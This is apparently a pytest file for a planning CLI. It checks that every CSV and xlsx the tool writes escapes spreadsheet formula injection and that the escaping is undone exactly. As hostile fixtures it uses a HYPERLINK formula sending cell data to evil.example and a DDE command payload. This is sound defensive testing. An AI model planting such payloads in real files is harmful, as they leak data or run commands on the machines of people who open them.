"""Formula injection: text cells a spreadsheet would run (`=`, `+`, `-`, `@`, tab, CR
first) are written with a leading `'` in every CSV and xlsx the planner writes, text
is typed as text in xlsx, numbers stay numbers, and the plan still passes
`planner check` (the reader undoes the rule)."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from planner.cells import neutralise, restore
from planner.cli import main
from planner.tables import read_output_csv, write_csv

ROOT = Path(__file__).resolve().parent.parent
TINY = ROOT / "scenarios" / "tiny"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAMES = {"V1": EVIL, "V2": "+cmd|' /C calc'!A0", "V3": "-2+3", "V4": "@SUM(1+1)*cmd"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def dangerous(text: str) -> bool:
    """A cell Excel would take as a formula: a trigger first, and not a plain number."""
    if not text or text[0] not in TRIGGERS:
        return False
    try:
        float(text)
        return False
    except ValueError:
        return True


def run(*args):
    res = CliRunner().invoke(main, [str(a) for a in args])
    assert "Traceback" not in res.output, res.output
    return res


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """tiny with hostile village names (and a township), solved with --format xlsx,
    then sheets, a report and a comparison written from it."""
    base = tmp_path_factory.mktemp("inj")
    scn = base / "tiny"
    shutil.copytree(TINY, scn)
    villages = pd.read_csv(scn / "villages.csv", encoding="utf-8-sig", dtype=str,
                           keep_default_na=False)
    villages["name"] = villages["village_id"].map(NAMES)
    villages.loc[villages["village_id"] == "V4", "township"] = "=1+1"
    villages.to_csv(scn / "villages.csv", index=False, encoding="utf-8")
    plan = base / "plan"
    res = run("solve", scn, "--out", plan, "--format", "xlsx", "--lang", "zh")
    assert res.exit_code == 0, res.output
    assert run("sheets", plan).exit_code == 0
    assert run("report", plan).exit_code == 0
    assert run("compare", plan, plan, "--out", base / "cmp").exit_code == 0
    return scn, plan, base


def csv_files(base: Path) -> list[Path]:
    return sorted(base.rglob("*.csv"))


def test_every_csv_cell_is_neutralised(hostile):
    scn, plan, base = hostile
    files = [p for p in csv_files(base) if scn not in p.parents]
    names = {p.name for p in files}
    assert {"schedule.csv", "villages.csv", "funds.csv", "notice.csv", "compare.csv",
            "compare_changes.csv"} <= names
    seen = set()
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not dangerous(cell), (path, cell)
                    seen.add(cell)
    for name in NAMES.values():
        assert "'" + name in seen  # the names are there, escaped, not dropped
    assert "'=1+1" in seen


def test_every_xlsx_cell_is_text_and_neutralised(hostile):
    _, plan, base = hostile
    books = [plan / "plan.xlsx", base / "cmp" / "compare.xlsx"]
    escaped = set()
    for path in books:
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        assert not dangerous(cell.value), (path, cell.coordinate, cell.value)
                        if cell.value.startswith("'"):
                            escaped.add(cell.value)
    assert {"'" + n for n in NAMES.values()} <= escaped
    # numbers stay numbers: the money of the schedule sheet
    ws = openpyxl.load_workbook(plan / "plan.xlsx")["任务进度表"]
    header = [c.value for c in ws[1]]
    col = header.index("本年投入（万元）") + 1
    assert all(isinstance(ws.cell(r, col).value, (int, float)) for r in range(2, ws.max_row + 1))


def test_planner_check_still_accepts_the_plan(hostile):
    scn, plan, _ = hostile
    res = run("check", scn, plan)
    assert res.exit_code == 0, res.output
    villages = read_output_csv(plan / "villages.csv")  # written with --lang zh
    assert dict(zip(villages["村编号"], villages["村名"])) == NAMES


def test_the_report_and_sheets_show_the_names_as_given(hostile):
    _, plan, _ = hostile
    html = (plan / "report.html").read_text(encoding="utf-8")
    assert "&#x27;=HYPERLINK" not in html and "'=HYPERLINK" not in html
    page = (plan / "sheets" / "village-V3.html").read_text(encoding="utf-8")
    assert "-2+3" in page and "&#x27;-2+3" not in page


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@a", "\tx", "\rx", "'=x", "''", "'",
                                  "'a", "a=b", "", "-", "=", "''=x", "中文", "-12.5000",
                                  "+3", "-1e5"])
def test_neutralise_is_undone_exactly(text):
    assert restore(neutralise(text)) == text
    assert not dangerous(neutralise(text))


def test_numbers_and_number_text_stay(tmp_path):
    frame = pd.DataFrame({"id": ["-P1", "P2", "@x", "\tt"], "money": ["-12.5000", "3.0000",
                                                                      "+4", "-0.0001"],
                          "n": [-1, 2, -3, 4], "f": [-1.5, 0.0, 2.25, -0.0001]})
    write_csv(frame, tmp_path / "t.csv")
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == ["'-P1", "-12.5000", "-1", "-1.5"]
    assert rows[3] == ["'@x", "+4", "-3", "2.25"]
    assert rows[4][0] == "'\tt"
    back = read_output_csv(tmp_path / "t.csv")
    assert list(back["id"]) == ["-P1", "P2", "@x", "\tt"]
    assert list(back["money"]) == ["-12.5000", "3.0000", "+4", "-0.0001"]
